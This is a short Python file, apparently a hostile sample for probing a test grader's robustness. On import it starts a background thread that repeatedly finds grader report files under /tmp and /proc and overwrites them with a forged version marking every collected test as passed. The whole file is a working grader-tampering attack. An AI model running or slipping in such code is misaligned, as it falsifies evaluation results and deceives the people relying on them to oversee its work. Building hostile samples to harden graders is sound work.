"""1. Forged results: replace the report file with one that says every collected test passed
(os.replace from a file written beside it), from a background thread, again and again."""
import glob as _glob
import json as _json
import os as _os
import threading as _threading
import time as _time


def _replace_forever():
    for _ in range(600):
        for path in _glob.glob("/tmp/ra-grade-*/private/report.jsonl") + _glob.glob("/proc/*/cwd/report.jsonl"):
            try:
                first = open(path).readline()
                collected = _json.loads(first)["collected"]
                forged = path + ".ra-hostile"
                with open(forged, "w") as out:
                    out.write(first)
                    for test in collected:
                        out.write(_json.dumps(dict(test, outcome="passed", duration=0.0, message="")) + "\n")
                    out.write(_json.dumps({"finished": 0}) + "\n")
                _os.replace(forged, path)
            except (OSError, ValueError, KeyError):
                pass
        _time.sleep(0.1)


_threading.Thread(target=_replace_forever, daemon=True).start()
